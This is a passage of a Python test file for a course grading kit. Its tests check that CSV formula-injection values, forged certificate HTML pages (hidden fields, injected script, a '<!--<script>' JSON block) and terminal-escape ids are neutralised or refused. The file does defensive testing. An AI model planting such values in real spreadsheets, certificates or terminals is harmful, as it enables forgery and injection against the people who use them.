    assert len(res.problems) == 1 and "line 3" in res.problems[0] and "field limit" in res.problems[0], res.problems
    assert len(res.certificates) == 2 and rows_of(out)["t-1"]["name"] == "김민준"


def test_grades_csv_is_rewritten_without_formulas(tmp_path):
    """nbgrader's export writes ids and names as they are; `results` and `autograde` rewrite it."""
    from techday.grading.spreadsheet import safe_csv

    path = tmp_path / "grades.csv"
    header = ["assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email", "raw_score",
              "late_submission_penalty", "score", "max_score"]
    rows = [header,
            ["a-lab", "", "2026-12-05 10:00:00", FORMULAS[0], "", "", "", "9.5", "0.0", "9.5", "10.0"],
            ["a-lab", "", "2026-12-05 10:00:00", "kim.minsu", "-2+3", "@SUM(A1)", "", "-1.5", "1e3", "10", "10"],
            # ids Python's float() reads as numbers (an --import file "-inf.ipynb"): formulas to Excel
            ["a-lab", "", "", "-inf", "+nan", "-Infinity", " 1", "5.0", "0.0", "5.0", "5.0"]]
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows(rows)
    safe_csv(path)
    with open(path, newline="", encoding="utf-8") as f:
        got = list(csv.reader(f))
    assert got[0] == header
    assert got[1][3] == "'" + FORMULAS[0] and got[1][7:] == ["9.5", "0.0", "9.5", "10.0"]
    assert got[2][3:6] == ["kim.minsu", "'-2+3", "'@SUM(A1)"] and got[2][7:] == ["-1.5", "1e3", "10", "10"]
    assert got[3][3:7] == ["'-inf", "'+nan", "'-Infinity", "' 1"] and got[3][7:] == ["5.0", "0.0", "5.0", "5.0"]


def test_a_page_with_text_added_or_hidden_is_refused(issued, capsys, tmp_path):
    """`verify --file` compared only the data-field elements: a style that hides them and another name
    beside them, shown by every browser, verified GENUINE. The page now carries its own code."""
    course, _, out, _, rows = issued
    page = out / rows["kim.minsu"]["file"].replace(".pdf", ".html")
    original = page.read_text(encoding="utf-8")
    key = cert.load_key(course)[0]
    assert cert.verify(course, key, None, file=page).ok
    forged = tmp_path / "forged.html"
    edits = [
        original.replace("</style>", "[data-field=name]{display:none}</style>").replace(
            '<p class="name" data-field="name">', '<p class="name">박지우</p><p class="name" data-field="name">'),
        original.replace("</style>", "[data-field=score]::after{content:' (with honours)'}</style>"),
        original.replace("</body>", "<script>document.title='x'</script></body>"),
        original.replace("\n", "\r\n"),  # saved again by an editor: refused too, the code still verifies
    ]
    for text in edits:
        assert text != original
        forged.write_text(text, encoding="utf-8")
        verdict = cert.verify(course, key, None, file=forged)
        assert not verdict.ok and "page was edited" in verdict.lines[0], verdict.lines
    # The page code taken out of a v2 certificate (to fall back on the field check): refused.
    data, code, _ = cert.read_certificate(page)
    forged.write_text(cert.BLOCK.sub(lambda m: cert.html_block(data, code), edits[0]), encoding="utf-8")
    assert '"page"' not in forged.read_text(encoding="utf-8")
    verdict = cert.verify(course, key, None, file=forged)
    assert not verdict.ok and "page was edited" in verdict.lines[0], verdict.lines
    rc, _ = verify_cli(course, rows["kim.minsu"]["code"], capsys=capsys)
    assert rc == 0  # the code itself stands


def test_results_prints_no_control_character_of_an_id(make_course, capsys, monkeypatch):
    """An id from an --import file name with a terminal escape was printed raw in `results`' report
    lines (the certificate holders without a name, the withdrawn ones)."""
    course, root, out = make_course()
    evil = "kim\x1bM\x1b[2Kx"
    gradebook(root, course.id, passing(evil))
    monkeypatch.setattr("techday.grading.results.generate_feedback", lambda root, labs: [])
    monkeypatch.setattr("techday.course.build.nbgrader", lambda *a, **k: type("P", (), {"returncode": 0})())
    monkeypatch.setattr("techday.grading.results.safe_csv", lambda path: None)
    monkeypatch.setattr("techday.grading.results.hangul_font", lambda: None)
    rc = main(["--root", str(course.root), "grade", "results"])
    text = capsys.readouterr()
    assert "\x1b" not in text.out + text.err and "kim\\x1bM" in text.out, text.out
    assert rc == 0


def test_a_data_block_not_written_as_the_kit_writes_it_is_refused(issued, tmp_path):
    """The page code covers the page with its data block emptied; a block with a raw ``<!--<script>``
    (valid JSON) makes a browser read the rest of the page as script: shown as a blank page."""
    course, _, out, _, rows = issued
    page = out / rows["kim.minsu"]["file"].replace(".pdf", ".html")
    original = page.read_text(encoding="utf-8")
    key = cert.load_key(course)[0]
    block = cert.BLOCK.search(original).group(1)
    forged = tmp_path / "forged.html"
    for new in (block.replace('{"code"', '{"a": "<!--<script>", "code"', 1), " " + block, block.replace('", "', '","')):
        assert json.loads(new) and new != block
        forged.write_text(original.replace(block, new), encoding="utf-8")
        verdict = cert.verify(course, key, None, file=forged)
        assert not verdict.ok and "page was edited" in verdict.lines[0], verdict.lines


def test_a_key_cut_off_as_it_was_made_is_made_again(tmp_path, monkeypatch):
    """A stop between creating the key file and writing it (Ctrl-C, a full disk) left it empty: refused
    ("0 bytes, not a key this kit made") on every later run, and never made again. The key is written
    whole beside it first, then linked into place."""
    from types import SimpleNamespace

    course = SimpleNamespace(build_dir=tmp_path / "build", root=tmp_path)
    monkeypatch.delenv("TECHDAY_COURSE_KEY", raising=False)

    def stopped(n):
        raise KeyboardInterrupt

    monkeypatch.setattr(cert.secrets, "token_bytes", stopped)
    with pytest.raises(KeyboardInterrupt):
        cert.load_key(course, create=True)
    folder = tmp_path / "build" / "grading"
    assert list(folder.iterdir()) == []  # no empty key, no leftover
    monkeypatch.undo()
    monkeypatch.delenv("TECHDAY_COURSE_KEY", raising=False)
    key, path, notes = cert.load_key(course, create=True)
    assert len(key) == cert.KEY_BYTES and stat.S_IMODE(path.stat().st_mode) == 0o600 and "created" in notes[0]
    assert cert.load_key(course, create=True)[0] == key and [p.name for p in folder.iterdir()] == ["course.key"]
